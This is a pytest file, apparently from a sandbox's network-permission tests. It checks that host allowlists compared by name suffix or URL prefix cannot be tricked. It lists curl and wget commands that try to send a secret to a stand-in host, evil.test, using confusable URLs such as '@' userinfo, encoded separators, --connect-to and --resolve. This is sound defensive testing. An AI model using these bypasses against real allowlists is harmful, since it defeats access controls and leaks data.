"""Lists of hosts that compare texts: they work on naive clients alone."""

from __future__ import annotations

import pytest
from tests.attacks.network.conftest import SECRET, Attack, Make, Naive, World

pytestmark = pytest.mark.anyio
PORTS = "1..65535"
FRIEND = f"fetch:http://friend.test:{PORTS} net=127.0.0.1/32"
WILD = f"fetch:http://*.friend.test:{PORTS} net=127.0.0.1/32"


def naive_suffix(world: World) -> bytes:
    """The end of the name is compared, not its labels."""
    url = world.url("evilfriend.test", f"/?{SECRET}")
    return world.get(url) if "evilfriend.test".endswith("friend.test") else b""


async def suffix(world: World) -> None:
    hosts = ("evilfriend.test", "evil.test", "friend.test.evil.test")
    urls = [world.url(host, f"/?{SECRET}") for host in hosts]
    await world.run([FRIEND, WILD], *(f"curl '{url}'" for url in urls))


def naive_prefix(world: World) -> bytes:
    """The beginning of the URL is compared, and another parser finds another host in it."""
    url = f"http://friend.test@evil.test:{world.thief.port}/?{SECRET}"
    return world.get(url) if url.startswith("http://friend.test") else b""


async def prefix(world: World) -> None:
    end = f"evil.test:{world.thief.port}/?{SECRET}"
    await world.run(
        [FRIEND, WILD],
        *(
            f"curl '{url}'; wget -O - '{url}'"
            for url in (
                f"http://friend.test@{end}",
                f"http://friend.test:80@{end}",
                f"http://friend.test%40{end}",
                f"http://friend.test\\@{end}",
                f"http://friend.test#@{end}",
                f"http://friend.test%2f@{end}",
                f"http://friend.test\t@{end}",
                f"http:friend.test@{end}",
                f"//friend.test@{end}",
            )
        ),
        f"curl --connect-to friend.test:80:{end} http://friend.test/?{SECRET}",
        f"curl -H 'Host: evil.test' --resolve friend.test:80:127.0.0.1 'http://{end}'",
    )


LISTS: dict[str, tuple[Naive, Attack]] = {
    "by the end of the name": (naive_suffix, suffix),
    "by the beginning of the URL": (naive_prefix, prefix),
}


@pytest.mark.parametrize("compared", LISTS)
async def test_a_list_is_led_around_on_a_naive_client_and_not_here(
    compared: str, world: Make
) -> None:
    naive, attack = LISTS[compared]
    bitten, safe = world("naive"), world("safe")
    naive(bitten)
    assert bitten.harm != ""
    await attack(safe)
    assert safe.harm == "", safe.output


async def test_the_same_grants_let_through_what_they_name(world: Make) -> None:
    here = world("allowed")
    urls = [here.url(host, "/x", of=here.friend) for host in ("friend.test", "good.friend.test")]
    await here.run([FRIEND, WILD], *(f"curl -s '{url}'" for url in urls), url=urls[0])
    assert here.output.count("friendly") >= 3
    assert [r.target for r in here.friend.requests] == ["/x"] * 3
